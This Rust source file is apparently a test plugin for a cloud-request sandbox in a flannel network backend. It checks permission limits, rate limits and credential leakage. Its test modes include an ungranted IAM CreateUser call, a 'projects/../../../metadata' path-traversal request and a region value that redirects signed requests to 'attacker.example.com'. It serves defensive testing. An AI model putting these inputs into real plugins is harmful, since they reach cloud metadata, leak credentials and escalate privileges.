//! A plugin that asks clouds: its option `Do` names what for; `send` is for the requests in `Requests`, one after the other, each an object
//! with the contract's names, and fails with the last answer. `Canary` is a text, each of whose bytes is given inverted and in
//! hexadecimal digits, which it looks for in all of its memory afterwards.

use std::time::Duration;

use flannel_backend::cloud::{self, Method, Provider, Request, RequiredOperation};
use flannel_backend::serde_json::{Value, from_value};
use flannel_backend::{Config, Lease, Node, PeerId, Policy, Registration};

struct Asker {
    deed: String,
    requests: Vec<Value>,
    canary: Vec<u8>,
}

impl Policy for Asker {
    const NAME: &'static str = "asker";
    const VERSION: &'static str = "0.0.0";
    const BACKEND_TYPES: &'static [&'static str] = &["asker"];

    fn register(node: &Node, config: &Config) -> Result<(Self, Registration), String> {
        let text = |name| Ok::<_, String>(config.text(name)?.unwrap_or_default().to_owned());
        let requests = config.get("Requests").and_then(Value::as_array).cloned().unwrap_or_default();
        let policy = Self { deed: text("Do")?, requests, canary: inverted(&text("Canary")?) };
        if policy.deed == "ask-early" {
            cloud::send(&describe())?;
        }
        let registration = Registration { mtu: node.external.mtu, ..Registration::default() };
        Ok((policy, registration))
    }

    fn put(&mut self, _peer: PeerId, _lease: &Lease) -> Result<(), String> {
        Ok(())
    }

    fn tick(&mut self) -> Result<Option<Duration>, String> {
        match self.deed.as_str() {
            "ask" => {
                let answer = cloud::send(&describe())?;
                let me = cloud::describe_instance(Provider::Aws)?;
                let shown = format!("{} {:?} {} {}", answer.status, answer.headers, answer.body, me.id);
                self.search()?;
                Err(shown)
            }
            "ask-and-carry-on" => {
                // What is not granted dooms the call, whatever becomes of it.
                let _ = cloud::send(&action("iam", "CreateUser"));
                Ok(None)
            }
            "ask-outside" => {
                let path = "projects/../../../metadata";
                cloud::send(&Request::rest(Provider::Google, "compute", "v1", Method::Get, path))?;
                Ok(None)
            }
            "ask-elsewhere" => {
                cloud::send(&describe().region("attacker.example.com/"))?;
                Ok(None)
            }
            "send" => {
                let mut last = String::new();
                for wish in &self.requests {
                    let answer = cloud::send(&request(wish)?)?;
                    last = format!("{} {}", answer.status, answer.body);
                }
                Err(last)
            }
            "ask-too-often" => {
                for _ in 0..100 {
                    cloud::send(&describe())?;
                }
                Ok(None)
            }
            _ => Ok(None),
        }
    }
}

impl Asker {
    /// Fails if the canary is anywhere in here.
    fn search(&self) -> Result<(), String> {
        if !self.canary.is_empty()
            && memory()
                .windows(self.canary.len())
                .any(|bytes| bytes.iter().zip(&self.canary).all(|(byte, inverted)| *byte == !inverted))
        {
            return Err("the canary is in here".to_owned());
        }
        Ok(())
    }
}

/// All of the component's memory.
#[cfg(target_family = "wasm")]
fn memory() -> &'static [u8] {
    // The first page has nothing in it.
    const BEGIN: usize = 1024;
    let end = core::arch::wasm32::memory_size(0) << 16;
    // SAFETY: these are addresses of the linear memory, which never shrinks; nothing else runs while they are read.
    unsafe { std::slice::from_raw_parts(std::ptr::with_exposed_provenance(BEGIN), end - BEGIN) }
}

#[cfg(not(target_family = "wasm"))]
fn memory() -> &'static [u8] {
    &[]
}

fn inverted(hexadecimal: &str) -> Vec<u8> {
    let digits: Vec<u8> =
        hexadecimal.chars().filter_map(|c| c.to_digit(16)).filter_map(|n| u8::try_from(n).ok()).collect();
    digits.chunks_exact(2).map(|pair| pair[0] << 4 | pair[1]).collect()
}

/// A request as the option has it: an action with `action` and `parameters`, or a call with `method`, `path`, `query` and `body`.
fn request(wish: &Value) -> Result<Request, String> {
    let text = |name: &str| wish[name].as_str().unwrap_or_default();
    let provider = match text("provider") {
        "aws" => Provider::Aws,
        "google" => Provider::Google,
        "alibaba" => Provider::Alibaba,
        "tencent" => Provider::Tencent,
        other => return Err(format!("provider: {other:?}")),
    };
    let pairs = |name: &str| from_value::<Vec<(String, String)>>(wish[name].clone()).unwrap_or_default();
    let (service, version) = (text("service"), text("version"));
    let (mut request, parameters) = match text("action") {
        "" => {
            let method = match text("method") {
                "POST" => Method::Post,
                "PUT" => Method::Put,
                "PATCH" => Method::Patch,
                "DELETE" => Method::Delete,
                _ => Method::Get,
            };
            (Request::rest(provider, service, version, method, text("path")), pairs("query"))
        }
        action => (Request::action(provider, service, version, action, &[]), pairs("parameters")),
    };
    for (name, value) in &parameters {
        request = request.query(&[(name, value)]);
    }
    if let Some(body) = wish["body"].as_str() {
        request = request.body(body);
    }
    if let Some(region) = wish["region"].as_str() {
        request = request.region(region);
    }
    Ok(request)
}

fn action(service: &str, name: &str) -> Request {
    Request::action(Provider::Aws, service, "2016-11-15", name, &[])
}

fn describe() -> Request {
    action("ec2", "DescribeRouteTables").idempotent()
}

flannel_backend::export!(Asker);
flannel_backend::cloud_permissions!(&[
    RequiredOperation {
        provider: Provider::Aws,
        service: "ec2",
        operation: "DescribeRouteTables",
        permissions: &["ec2:DescribeRouteTables"],
    },
    RequiredOperation {
        provider: Provider::Google,
        service: "compute",
        operation: "GET projects/*/global/routes/*",
        permissions: &["compute.routes.get"],
    },
]);
